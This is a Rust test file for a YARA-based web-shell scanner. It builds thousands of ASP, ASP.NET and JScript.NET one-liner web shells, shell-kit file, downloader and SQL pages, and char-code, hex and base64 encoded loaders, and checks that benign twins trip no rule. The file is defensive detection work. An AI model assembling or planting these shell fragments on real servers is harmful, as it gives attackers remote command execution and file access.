//! Generated one-liners: every combination of a host page, a way to read the request, a way to
//! hide the key or the payload, and a sink, the way shell kits and their users vary them. The
//! rules must catch each variant, and the same pages with the sink replaced by ordinary output
//! must trip nothing. The generator is written from the behaviours (request data into code,
//! a process or an assembly), not from any sample: a rule written for one file fails here.

use std::sync::OnceLock;

use exray_core::content::ContentRules;
use exray_core::model::Severity;

fn rules() -> &'static exray_yara::YaraRules {
    static R: OnceLock<exray_yara::YaraRules> = OnceLock::new();
    R.get_or_init(|| exray_yara::builtin().expect("built-in rules compile"))
}

fn fired(page: &str) -> Vec<String> {
    hits(page).into_iter().map(|(id, _)| id).collect()
}

fn hits(page: &str) -> Vec<(String, Severity)> {
    let mut s = rules().scanner();
    s.scan("variant", page.as_bytes())
        .expect("scan")
        .into_iter()
        .map(|h| (h.meta.id, h.meta.severity))
        .collect()
}

/// Classic ASP in VBScript: how the page reads a request value named by `key`.
fn vbs_sources(key: &str) -> Vec<String> {
    [
        "Request({k})",
        "request({k})",
        "Request.Form({k})",
        "Request.QueryString({k})",
        "Request.Item({k})",
        "Request.Cookies({k})",
        "REQUEST . form ( {k} )",
        "Trim(Request({k}))",
        "CStr(Request.Form({k}))",
        "Request.Form({k}) & \"\"",
        "Request.Form.Item({k})",
        "Request.ServerVariables(\"HTTP_Z9\")",
        "UnEscape(Request({k}))",
    ]
    .iter()
    .map(|s| s.replace("{k}", key))
    .collect()
}

/// VBScript spellings of the key "z9".
const VBS_KEYS: &[&str] = &["\"z9\"", "\"z\" & \"9\"", "Chr(122) & Chr(57)", "\"Z9\""];

/// VBScript ways to run a string `{v}`, as one statement or several.
const VBS_SINKS: &[&str] = &[
    "Execute {v}",
    "Execute({v})",
    "ExecuteGlobal {v}",
    "ExecuteGlobal({v})",
    "eval({v})",
    "x = Eval({v})",
    "eXeCuTe {v}",
    "Execute  (  {v}  )",
    "s = {v}\nExecute s",
    "s = {v}\nExecuteGlobal(s)",
    "Session(\"c\") = {v}\nExecute Session(\"c\")",
    "Sub r(c)\nExecute c\nEnd Sub\nr {v}",
    "Function r(c)\nr = Eval(c)\nEnd Function\nResponse.Write r({v})",
    "If {v} <> \"\" Then Execute {v}",
    "Response.Write Eval({v})",
    "Set r = Request : Execute {v}",
    "Dim s : s = {v} : ExecuteGlobal s ' run it",
    "a = Split({v}, \"|\")\nExecute a(0)",
    "s = \"\" & {v}\nIf Len(s) > 0 Then\n  Execute(s)\nEnd If",
    "Call Execute({v})",
    "With Response\n.Write \"ok\"\nEnd With\nExecute {v}",
];

/// VBScript decoders wrapped around the request value before it is run.
const VBS_DECODERS: &[&str] = &["{v}", "StrReverse({v})", "Replace({v}, \"~\", \"\")"];

/// Host pages for VBScript.
const VBS_HOSTS: &[&str] = &[
    "<%{code}%>",
    "<%\n{code}\n%>",
    "<%@ Language=VBScript %>\n<%\n{code}\n%>",
    "<html><body>\n<%\n{code}\n%>\n</body></html>",
    "<script language=\"vbscript\" runat=\"server\">\n{code}\n</script>",
    "<SCRIPT RUNAT=SERVER LANGUAGE=VBSCRIPT>\n{code}\n</SCRIPT>",
];

/// JScript (classic ASP and JScript.NET): request reads.
const JS_SOURCES: &[&str] = &[
    "Request[{k}]",
    "Request.Item[{k}]",
    "Request.Form[{k}]",
    "Request.QueryString[{k}]",
    "Request.Params[{k}]",
    "Request.Headers[{k}]",
    "Request.Cookies[{k}].Value",
    "Context.Request[{k}]",
    "HttpContext.Current.Request[{k}]",
    "Request . Item [ {k} ]",
    "Request.Form[{k}] + \"\"",
    "Request.Form.Get({k})",
    "Request.Item[{k}].ToString()",
    "String(Request[{k}])",
];

const JS_KEYS: &[&str] = &[
    "\"z9\"",
    "'z9'",
    "\"z\" + \"9\"",
    "String.fromCharCode(122, 57)",
];

/// JScript.NET sinks: `{v}` is the value, the second argument enables the unsafe mode.
const JSNET_SINKS: &[&str] = &[
    "eval({v}, \"unsafe\");",
    "eval({v},\"unsafe\");",
    "eval({v}, \"un\" + \"safe\");",
    "eval ( {v} , 'unsafe' ) ;",
    "var c = {v}; eval(c, \"unsafe\");",
    "var c = {v};\neval(c, \"unsafe\");",
    "eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String({v})), \"unsafe\");",
    "eval/*x*/({v}/*y*/, \"unsafe\");",
    "eval({v});",
    "function r(c) { eval(c, \"unsafe\"); }\nr({v});",
    "Response.Write(eval({v}, \"unsafe\"));",
    "var r = {v}; var o = \"unsafe\"; eval(r, o);",
    "eval({v}.Replace(\"~\", \"\"), \"unsafe\");",
    "try { eval({v}, \"unsafe\"); } catch (e) { Response.Write(e.message); }",
    "var s = new System.IO.StreamReader(Request.InputStream).ReadToEnd(); eval(s + {v}, \"unsafe\");",
    "eval(Server.UrlDecode({v}), \"unsafe\");",
];

/// JScript.NET hosts.
const JSNET_HOSTS: &[&str] = &[
    "<%@ Page Language=\"Jscript\"%><%{code}%>",
    "<%@ Page Language=\"JScript\" Debug=\"true\" %>\n<%\n{code}\n%>",
    "<%@ Page Language=\"javascript\" %>\n<% {code} %>",
    "<%@ Page Language = \"JS\" validateRequest=\"false\" %>\n<%\n{code}\n%>",
    "<%@ Page Language=\"Jscript\" %>\n<script runat=\"server\">\nfunction Page_Load() {\n{code}\n}\n</script>",
];

/// Classic ASP in JScript.
const JSASP_HOSTS: &[&str] = &[
    "<%@ Language=\"JScript\" %>\n<%\n{code}\n%>",
    "<%@LANGUAGE=\"JAVASCRIPT\"%><%{code}%>",
    "<script language=\"jscript\" runat=\"server\">\n{code}\n</script>",
];

const JSASP_SINKS: &[&str] = &[
    "eval({v});",
    "eval({v} + \"\");",
    "var c = {v}; eval(c);",
    "var f = new Function({v}); f();",
    "(new Function({v}))();",
];

/// C# pages that start a process or load an assembly from request data.
const CS_HOSTS: &[&str] = &[
    "<%@ Page Language=\"C#\" %>\n<% {code} %>",
    "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object sender, EventArgs e) {\n{code}\n}\n</script>",
    "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web;\npublic class H : IHttpHandler {\npublic void ProcessRequest(HttpContext context) {\nvar Request = context.Request; var Response = context.Response;\n{code}\n}\npublic bool IsReusable { get { return false; } }\n}",
];

const CS_SOURCES: &[&str] = &[
    "Request[\"z9\"]",
    "Request.Form[\"z9\"]",
    "Request.QueryString[\"z9\"]",
    "Request.Headers[\"z9\"]",
    "Request.Params[\"z9\"]",
    "Request.Cookies[\"z9\"].Value",
    "Request.Form.Get(\"z9\")",
    "HttpContext.Current.Request[\"z9\"]",
    "Context.Request.Params[\"z9\"]",
];

const CS_SINKS: &[&str] = &[
    "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + {v});",
    "var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + {v}; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start(); Response.Write(p.StandardOutput.ReadToEnd());",
    "var si = new System.Diagnostics.ProcessStartInfo(\"cmd\", \"/c \" + {v}); si.RedirectStandardOutput = true; si.UseShellExecute = false; Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());",
    "System.Reflection.Assembly.Load(Convert.FromBase64String({v})).CreateInstance(\"U\").Equals(this);",
    "var a = System.Reflection.Assembly.Load(System.Convert.FromBase64String({v})); a.CreateInstance(\"P\").Equals(Context);",
    "System.Diagnostics.Process.Start({v});",
    "var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + {v}) { UseShellExecute = false, RedirectStandardOutput = true } }; p.Start(); Response.Write(p.StandardOutput.ReadToEnd());",
    "using (var ps = System.Management.Automation.PowerShell.Create()) { ps.AddScript({v}); foreach (var o in ps.Invoke()) Response.Write(o); }",
    "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(); rs.Open(); var pl = rs.CreatePipeline(); pl.Commands.AddScript({v}); foreach (var o in pl.Invoke()) Response.Write(o);",
    "Response.Write(Microsoft.JScript.Eval.JScriptEvaluate({v}, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()));",
    "var cp = new Microsoft.CSharp.CSharpCodeProvider(); var pr = new System.CodeDom.Compiler.CompilerParameters(); pr.GenerateInMemory = true; var r = cp.CompileAssemblyFromSource(pr, {v}); r.CompiledAssembly.CreateInstance(\"X\");",
    "new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(new System.IO.MemoryStream(Convert.FromBase64String({v})));",
    "new System.Web.UI.LosFormatter().Deserialize({v});",
    "var k = System.Text.Encoding.Default.GetBytes(\"3c6e0b8a9c15224a\"); var c = Convert.FromBase64String({v}); var d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length); System.Reflection.Assembly.Load(d).CreateInstance(\"U\").Equals(this);",
    "var t = Type.GetTypeFromProgID(\"WScript.Shell\"); dynamic sh = Activator.CreateInstance(t); Response.Write(sh.Exec(\"cmd /c \" + {v}).StdOut.ReadAll());",
];

/// VB.NET pages.
const VBNET_HOSTS: &[&str] = &[
    "<%@ Page Language=\"VB\" %>\n<% {code} %>",
    "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(sender As Object, e As EventArgs)\n{code}\nEnd Sub\n</script>",
];

const VBNET_SINKS: &[&str] = &[
    "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" & {v})",
    "Dim si As New System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" & {v})\nsi.UseShellExecute = False\nsi.RedirectStandardOutput = True\nResponse.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd())",
    "System.Reflection.Assembly.Load(Convert.FromBase64String({v})).CreateInstance(\"U\").Equals(Me)",
    "Shell(\"cmd.exe /c \" & {v})",
];

const VBNET_SOURCES: &[&str] = &[
    "Request(\"z9\")",
    "Request.Form(\"z9\")",
    "Request.Item(\"z9\")",
    "Request.QueryString(\"z9\")",
];

/// The benign twin of a sink: the same value written to the page, encoded.
const VBS_BENIGN: &[&str] = &[
    "Response.Write Server.HTMLEncode({v})",
    "s = {v}\nIf s = \"\" Then Response.Redirect \"default.asp\"",
    "Session(\"c\") = {v}\nResponse.Write Server.HTMLEncode(Session(\"c\"))",
];
const JS_BENIGN: &[&str] = &[
    "Response.Write(Server.HtmlEncode({v}));",
    "var c = {v}; if (c == null) Response.Redirect(\"default.aspx\");",
];
const CS_BENIGN: &[&str] = &[
    "Response.Write(Server.HtmlEncode({v}));",
    "var p = System.Diagnostics.Process.GetCurrentProcess(); Response.Write(Server.HtmlEncode({v}) + p.Id);",
];

fn host(h: &str, code: &str) -> String {
    h.replace("{code}", code)
}

fn sink(s: &str, v: &str) -> String {
    s.replace("{v}", v)
}

/// Every generated shell, as (description, page).
fn shells() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut turn = 0usize;
    for key in VBS_KEYS {
        for src in vbs_sources(key) {
            for dec in VBS_DECODERS {
                let v = sink(dec, &src);
                // every sink meets every host, in turn over the sources and decoders
                turn += 1;
                for (i, s) in VBS_SINKS.iter().enumerate() {
                    let h = VBS_HOSTS[(turn + i) % VBS_HOSTS.len()];
                    out.push((format!("vbs {h:?} {s:?} {v:?}"), host(h, &sink(s, &v))));
                }
            }
        }
    }
    for key in JS_KEYS {
        for src in JS_SOURCES {
            let v = src.replace("{k}", key);
            for s in JSNET_SINKS {
                for h in JSNET_HOSTS {
                    out.push((format!("jsnet {h:?} {s:?} {v:?}"), host(h, &sink(s, &v))));
                }
            }
            if !src.contains("Params") && !src.contains("Context") && !src.contains(".Value") {
                for s in JSASP_SINKS {
                    for h in JSASP_HOSTS {
                        out.push((format!("jsasp {h:?} {s:?} {v:?}"), host(h, &sink(s, &v))));
                    }
                }
            }
        }
    }
    for src in CS_SOURCES {
        for s in CS_SINKS {
            for h in CS_HOSTS {
                out.push((format!("cs {h:?} {s:?} {src:?}"), host(h, &sink(s, src))));
            }
        }
    }
    for src in VBNET_SOURCES {
        for s in VBNET_SINKS {
            for h in VBNET_HOSTS {
                out.push((format!("vbnet {h:?} {s:?} {src:?}"), host(h, &sink(s, src))));
            }
        }
    }
    out
}

fn benign() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for key in VBS_KEYS {
        for src in vbs_sources(key) {
            for s in VBS_BENIGN {
                for h in VBS_HOSTS {
                    out.push((format!("vbs {h:?} {s:?} {src:?}"), host(h, &sink(s, &src))));
                }
            }
        }
    }
    for key in JS_KEYS {
        for src in JS_SOURCES {
            let v = src.replace("{k}", key);
            for s in JS_BENIGN {
                for h in JSNET_HOSTS.iter().chain(JSASP_HOSTS) {
                    out.push((format!("js {h:?} {s:?} {v:?}"), host(h, &sink(s, &v))));
                }
            }
        }
    }
    for src in CS_SOURCES {
        for s in CS_BENIGN {
            for h in CS_HOSTS {
                out.push((format!("cs {h:?} {s:?} {src:?}"), host(h, &sink(s, src))));
            }
        }
    }
    out
}

/// Every page of `all` must trip a rule of at least `min` severity; the misses are listed (all of
/// them in the file the environment variable `dump` names), each with what it did trip.
fn assert_all_caught(all: &[(String, String)], min: Severity, dump: &str, what: &str) {
    let missed: Vec<String> = all
        .iter()
        .filter_map(|(d, page)| {
            let h = hits(page);
            (!h.iter().any(|(_, s)| *s >= min)).then(|| format!("{d}: {h:?}"))
        })
        .collect();
    if let Some(path) = std::env::var_os(dump) {
        std::fs::write(path, missed.join("\n")).expect("write the dump");
    }
    assert!(
        missed.is_empty(),
        "{} of {} generated {what} missed or below {min:?} ({dump}=FILE lists them all); first ones:\n{}",
        missed.len(),
        all.len(),
        missed[..missed.len().min(40)].join("\n")
    );
}

/// No page of `all` may trip a rule.
fn assert_none_fire(all: &[(String, String)], what: &str) {
    let fp: Vec<String> = all
        .iter()
        .filter_map(|(d, page)| {
            let f = fired(page);
            (!f.is_empty()).then(|| format!("{d}: {f:?}"))
        })
        .collect();
    assert!(
        fp.is_empty(),
        "{} of {} {what} fired; first ones:\n{}",
        fp.len(),
        all.len(),
        fp[..fp.len().min(40)].join("\n")
    );
}

#[test]
fn every_generated_one_liner_is_caught() {
    let all = shells();
    assert!(all.len() > 4000, "generator shrank: {}", all.len());
    assert_all_caught(&all, Severity::High, "EXRAY_VARIANTS_DUMP", "shells");
}

/// The rules that fire on `bytes`, sorted.
fn fired_bytes(bytes: &[u8]) -> Vec<String> {
    let mut s = rules().scanner();
    let mut ids: Vec<String> = s
        .scan("variant", bytes)
        .expect("scan")
        .into_iter()
        .map(|h| h.meta.id)
        .collect();
    ids.sort();
    ids
}

/// Windows editors and `Out-File` save pages as UTF-16: every fifth generated one-liner, tool
/// page and benign twin, saved so (little-endian with a byte-order mark, and big-endian with
/// none), trips exactly the rules its UTF-8 form trips.
#[test]
fn utf16_variants_trip_what_their_text_trips() {
    let mut all = shells();
    all.extend(benign());
    all.extend(tool_pages());
    all.extend(tool_twins());
    let mut differ = Vec::new();
    for (d, page) in all.iter().step_by(5) {
        let plain = fired_bytes(page.as_bytes());
        let le: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(page.encode_utf16().flat_map(u16::to_le_bytes))
            .collect();
        let be: Vec<u8> = page.encode_utf16().flat_map(u16::to_be_bytes).collect();
        for (form, bytes) in [("UTF-16LE", le), ("UTF-16BE, no mark", be)] {
            let wide = fired_bytes(&bytes);
            if wide != plain {
                differ.push(format!("{d} ({form}): {wide:?} against {plain:?}"));
            }
        }
    }
    assert!(
        differ.is_empty(),
        "{} UTF-16 pages differ from their text; first ones:\n{}",
        differ.len(),
        differ[..differ.len().min(20)].join("\n")
    );
}

#[test]
fn benign_twins_trip_nothing() {
    let all = benign();
    assert!(all.len() > 500, "generator shrank: {}", all.len());
    assert_none_fire(&all, "benign twins");
}

// ---------------------------------------------------------------------------------------------
// Tool pages: what a shell kit's file manager, uploader, downloader, SQL console and command
// page do with the request. Written from the behaviours (request data naming a path, a file body,
// a URL, a SQL statement or a command line), not from any sample.

/// Classic ASP: the request value `{v}` (payload) and `{p}` (a path, URL or connection string the
/// request names).
const VBS_TOOLS: &[&str] = &[
    // writers
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath({p}), True)\nf.Write {v}\nf.Close",
    "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile({p}, 2, True)\nf.WriteLine {v}\nf.Close\nSet f = Nothing",
    "Set st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 2\nst.Charset = \"gb2312\"\nst.Open\nst.WriteText {v}\nst.SaveToFile Server.MapPath({p}), 2\nst.Close",
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nfso.CreateTextFile(Server.MapPath(\"x.asp\")).Write {v}",
    // uploader of the raw body
    "Set st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write Request.BinaryRead(Request.TotalBytes)\nst.SaveToFile Server.MapPath({p}), 2\nst.Close",
    // downloaders
    "Set x = Server.CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", {v}, False\nx.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write x.responseBody\nst.SaveToFile Server.MapPath({p}), 2\nst.Close",
    "Set x = CreateObject(\"Microsoft.XMLHTTP\")\nx.open \"GET\", {v}, false\nx.send()\nSet s = CreateObject(\"Adodb.Stream\")\ns.Type = 1\ns.Mode = 3\ns.Open\ns.Write x.ResponseBody\ns.SaveToFile {p}, 2",
    "Set x = Server.CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"GET\", {v}, False\nx.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write x.ResponseBody\nst.SaveToFile Server.MapPath({p}), 2",
    // commands through COM
    "Set sh = Server.CreateObject(\"WScript.Shell\")\nResponse.Write sh.Exec(\"cmd.exe /c \" & {v}).StdOut.ReadAll",
    "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"cmd /c \" & {v} & \" > \" & Server.MapPath(\"o.txt\"), 0, True",
    "Set sh = Server.CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\nSet e = sh.Exec({v})\nResponse.Write Server.HTMLEncode(e.StdOut.ReadAll)",
    "Set sa = Server.CreateObject(\"Shell.Application\")\nsa.ShellExecute \"cmd.exe\", \"/c \" & {v}, \"\", \"open\", 0",
    "c = {v}\nSet sh = Server.CreateObject(\"WScript.Shell\")\nSet o = sh.Exec(\"cmd /c \" & c)\nDo While Not o.StdOut.AtEndOfStream\nResponse.Write o.StdOut.ReadLine & \"<br>\"\nLoop",
    // script control
    "Set sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddCode {v}",
    "Set sc = CreateObject(\"ScriptControl\")\nsc.Language = \"JScript\"\nResponse.Write sc.Eval({v})",
    // SQL consoles
    "Set conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open {p}\nSet rs = conn.Execute({v})\nDo While Not rs.EOF\nResponse.Write rs(0) & \"<br>\"\nrs.MoveNext\nLoop",
    "Set conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB;Data Source=127.0.0.1;User ID=sa;Password=\" & {p}\nconn.Execute {v}",
    "sql = {v}\nSet rs = Server.CreateObject(\"ADODB.Recordset\")\nrs.Open sql, {p}, 1, 1\nFor Each fld In rs.Fields\nResponse.Write fld.Name & \" \"\nNext",
    // file managers (a page that only deletes, copies or moves the path it is sent is left out:
    // an editor's asset manager does that with the physical paths its own dialog sends)
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nFor Each f In fso.GetFolder({v}).Files\nResponse.Write f.Name & \" \" & f.Size & \"<br>\"\nNext",
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet d = fso.GetFolder({v})\nFor Each s In d.SubFolders\nResponse.Write \"<a href='?p=\" & s.Path & \"'>\" & s.Name & \"</a><br>\"\nNext",
];

/// Classic ASP pages that do the same kind of thing with fixed, application-owned targets.
const VBS_TOOLS_BENIGN: &[&str] = &[
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(Server.MapPath(\"data/guestbook.txt\"), 8, True)\nf.WriteLine Server.HTMLEncode({v})\nf.Close",
    "Set x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"http://www.example.com/update/version.txt\", False\nx.Send\nIf x.responseText <> {v} Then Response.Write \"A new version is out\"",
    "Set conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=Microsoft.Jet.OLEDB.4.0;Data Source=\" & Server.MapPath(\"db/site.mdb\")\nSet rs = conn.Execute(\"SELECT title FROM news WHERE id=\" & CLng({v}))\nIf Not rs.EOF Then Response.Write Server.HTMLEncode(rs(0))",
    "Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nFor Each f In fso.GetFolder(Server.MapPath(\"images\")).Files\nResponse.Write \"<img src='images/\" & f.Name & \"'>\"\nNext\nResponse.Write Server.HTMLEncode({v})",
    "Set cmd = Server.CreateObject(\"ADODB.Command\")\ncmd.CommandText = \"SELECT name FROM users WHERE id = ?\"\ncmd.Parameters.Append cmd.CreateParameter(\"id\", 3, 1, , {v})\nSet rs = cmd.Execute",
];

/// C#: `{v}` is the payload the request carries and `{p}` a path, URL or connection string it names.
const CS_TOOLS: &[&str] = &[
    "System.IO.File.WriteAllText({p}, {v});",
    "System.IO.File.WriteAllBytes(Server.MapPath({p}), Convert.FromBase64String({v}));",
    "using (var w = new System.IO.StreamWriter({p})) { w.Write({v}); }",
    "System.IO.File.WriteAllText(Server.MapPath(\"~/x.aspx\"), {v});",
    "Request.Files[0].SaveAs({p});",
    "HttpPostedFile f = Request.Files[0]; f.SaveAs(System.IO.Path.Combine({p}, f.FileName)); Response.Write(\"ok\");",
    // file managers (not a lone delete, copy or move: see VBS_TOOLS)
    "foreach (var f in System.IO.Directory.GetFiles({v})) Response.Write(f + \"<br>\");",
    "var di = new System.IO.DirectoryInfo({v}); foreach (var d in di.GetDirectories()) Response.Write(d.FullName + \"<br>\"); foreach (var f in di.GetFiles()) Response.Write(f.Name + \" \" + f.Length + \"<br>\");",
    "new System.Net.WebClient().DownloadFile({v}, Server.MapPath({p}));",
    "var wc = new System.Net.WebClient(); System.IO.File.WriteAllBytes({p}, wc.DownloadData({v}));",
    "var c = new System.Data.SqlClient.SqlConnection({p}); c.Open(); var r = new System.Data.SqlClient.SqlCommand({v}, c).ExecuteReader(); while (r.Read()) Response.Write(r[0] + \"<br>\");",
    "using (var c = new System.Data.OleDb.OleDbConnection({p})) { c.Open(); var cmd = c.CreateCommand(); cmd.CommandText = {v}; Response.Write(cmd.ExecuteNonQuery()); }",
    "var c = new System.Data.SqlClient.SqlConnection(\"server=.;uid=sa;pwd=\" + {p}); var da = new System.Data.SqlClient.SqlDataAdapter({v}, c); var ds = new System.Data.DataSet(); da.Fill(ds); GridView1.DataSource = ds; GridView1.DataBind();",
    "Response.Write(System.IO.File.ReadAllText({v}));",
];

const CS_TOOLS_BENIGN: &[&str] = &[
    "System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/log.txt\"), Server.HtmlEncode({v}) + Environment.NewLine);",
    "foreach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/images\"))) Response.Write(System.IO.Path.GetFileName(f)); Response.Write(Server.HtmlEncode({v}));",
    "var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString); var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT name FROM users WHERE id = @id\", c); cmd.Parameters.AddWithValue(\"@id\", {v}); c.Open(); Response.Write(Server.HtmlEncode((string)cmd.ExecuteScalar()));",
    "var f = Request.Files[0]; if (f.ContentType == \"image/jpeg\") f.SaveAs(Server.MapPath(\"~/uploads/\") + Guid.NewGuid() + \".jpg\"); Response.Write(Server.HtmlEncode({v}));",
];

/// The request names a second value, the path or target, under the key "p9".
fn vbs_path_sources() -> Vec<String> {
    vec![
        "Request(\"p9\")".into(),
        "Request.Form(\"p9\")".into(),
        "Trim(Request.QueryString(\"p9\"))".into(),
    ]
}

const CS_PATHS: &[&str] = &[
    "Request[\"p9\"]",
    "Request.Form[\"p9\"]",
    "Request.QueryString[\"p9\"]",
];

fn tool_pages() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut turn = 0usize;
    for src in vbs_sources("\"z9\"").into_iter().step_by(2) {
        for p in vbs_path_sources() {
            for (i, t) in VBS_TOOLS.iter().enumerate() {
                turn += 1;
                let h = VBS_HOSTS[(turn + i) % VBS_HOSTS.len()];
                let code = t.replace("{p}", &p).replace("{v}", &src);
                out.push((
                    format!("vbs-tool {h:?} {t:?} {src:?} {p:?}"),
                    host(h, &code),
                ));
            }
        }
    }
    for src in CS_SOURCES {
        for p in CS_PATHS {
            for t in CS_TOOLS {
                for h in CS_HOSTS {
                    let code = t.replace("{p}", p).replace("{v}", src);
                    out.push((format!("cs-tool {h:?} {t:?} {src:?} {p:?}"), host(h, &code)));
                }
            }
        }
    }
    out
}

fn tool_twins() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for src in vbs_sources("\"z9\"") {
        for t in VBS_TOOLS_BENIGN {
            for h in VBS_HOSTS {
                let code = t.replace("{v}", &src);
                out.push((format!("vbs-tool {h:?} {t:?} {src:?}"), host(h, &code)));
            }
        }
    }
    for src in CS_SOURCES {
        for t in CS_TOOLS_BENIGN {
            for h in CS_HOSTS {
                let code = t.replace("{v}", src);
                out.push((format!("cs-tool {h:?} {t:?} {src:?}"), host(h, &code)));
            }
        }
    }
    out
}

#[test]
fn every_generated_tool_page_is_caught() {
    let all = tool_pages();
    assert!(all.len() > 1000, "generator shrank: {}", all.len());
    assert_all_caught(&all, Severity::Medium, "EXRAY_TOOLS_DUMP", "tool pages");
}

#[test]
fn tool_twins_trip_nothing() {
    let all = tool_twins();
    assert!(all.len() > 200, "generator shrank: {}", all.len());
    assert_none_fire(&all, "benign tool twins");
}

// ---------------------------------------------------------------------------------------------
// Encoded pages: the payload kept as data (character codes in a text, hex pairs, base64, shifted
// characters), a decoder written in the page, and the decoded text run. Small pages, and pages
// padded past 64 KB with markup or comments (where the reading of names is coarser). Written
// from the behaviour (code kept as data, turned back into code, run), not from any sample.

/// What the decoded text does.
const VBS_PAYLOADS: &[&str] = &[
    "eval request(\"z9\")",
    "Execute Request.Form(\"z9\")",
    "Set s = CreateObject(\"WScript.Shell\") : Response.Write s.Exec(\"cmd /c \" & Request(\"z9\")).StdOut.ReadAll",
];

/// VBScript statements that run the decoded text `k`.
const VBS_RUNS: &[&str] = &[
    "Execute k",
    "ExecuteGlobal k",
    "Execute(k)",
    "ExecuteGlobal(k)",
];

/// What a page does with decoded text that is not code: shows it, keeps it.
const VBS_SHOWS: &[&str] = &[
    "Response.Write Server.HTMLEncode(k)",
    "Session(\"msg\") = k",
];

/// The text `d` spread over lines of 60 characters, the way generators accumulate it.
fn accumulate(d: &str) -> String {
    let chars: Vec<char> = d.chars().collect();
    let mut out = String::from("d = \"\"\n");
    for chunk in chars.chunks(60) {
        let s: String = chunk.iter().collect();
        out.push_str(&format!("d = d & \"{s}\"\n"));
    }
    out
}

/// Each encoding of `payload`: the code that leaves the decoded text in `k`.
fn encodings(payload: &str) -> Vec<(String, String)> {
    use base64::Engine;
    let codes = |sep: &str| {
        payload
            .bytes()
            .map(|b| b.to_string())
            .collect::<Vec<_>>()
            .join(sep)
    };
    let mut out = Vec::new();
    for sep in ["B", ",", "|", "x"] {
        out.push((
            format!("codes {sep:?} for each"),
            format!(
                "{}k = \"\"\nFor Each c In Split(d, \"{sep}\") : k = k & Chr(c) : Next\n",
                accumulate(&codes(sep))
            ),
        ));
        out.push((
            format!("codes {sep:?} indexed"),
            format!(
                "{}a = Split(d, \"{sep}\")\nFor i = 0 To UBound(a)\n k = k & Chr(CInt(a(i)))\nNext\n",
                accumulate(&codes(sep))
            ),
        ));
    }
    let hex: String = payload.bytes().map(|b| format!("{b:02X}")).collect();
    out.push((
        "hex pairs".into(),
        format!(
            "{}For i = 1 To Len(d) Step 2\n k = k & Chr(\"&H\" & Mid(d, i, 2))\nNext\n",
            accumulate(&hex)
        ),
    ));
    let shifted: String = payload.chars().map(|c| char::from(c as u8 + 1)).collect();
    out.push((
        "shifted".into(),
        format!(
            "{}For i = 1 To Len(d)\n k = k & Chr(Asc(Mid(d, i, 1)) - 1)\nNext\n",
            accumulate(&shifted)
        ),
    ));
    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
    out.push((
        "base64 function".into(),
        format!(
            "Function Dec(s)\n Dim n, w1, w2, w3, w4, o\n For n = 1 To Len(s) Step 4\n  w1 = Pos(Mid(s, n, 1)) : w2 = Pos(Mid(s, n + 1, 1))\n  w3 = Pos(Mid(s, n + 2, 1)) : w4 = Pos(Mid(s, n + 3, 1))\n  o = o & Chr(((w1 * 4 + Int(w2 / 16)) And 255))\n  If w3 >= 0 Then o = o & Chr(((w2 * 16 + Int(w3 / 4)) And 255))\n  If w4 >= 0 Then o = o & Chr(((w3 * 64 + w4) And 255))\n Next\n Dec = o\nEnd Function\nFunction Pos(c)\n Pos = InStr(\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\", c) - 1\nEnd Function\n{}k = Dec(d)\n",
            accumulate(&b64)
        ),
    ));
    out
}

/// Padding that takes a page past 64 KB: markup after the code, or comment lines before it.
fn pad(page: String, turn: usize) -> String {
